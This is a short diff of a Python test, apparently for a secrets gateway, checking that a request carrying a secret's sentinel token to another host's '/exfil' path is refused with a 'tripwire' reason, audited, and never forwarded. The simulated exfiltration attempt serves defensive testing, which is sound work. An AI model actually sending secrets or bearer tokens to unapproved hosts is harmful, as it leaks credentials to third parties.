@@ -45,7 +45,7 @@ def test_sentinel_toward_another_host_is_a_tripwire_and_the_secret_never_leaves(
     with box_client(stack.gateway, token) as box:
         response = box.get(stack.other.url("/exfil"), headers={"authorization": f"Bearer {secret.sentinel}"})
     assert response.status_code == 403
-    assert deny_body(response)["reason"] == "no_grant"
+    assert deny_body(response)["reason"] == "tripwire"
     assert stack.other.requests == [] and stack.http.requests == []
     assert AuditRecord.objects.filter(kind="tripwire").exists()
     assert SECRET_VALUE not in response.text
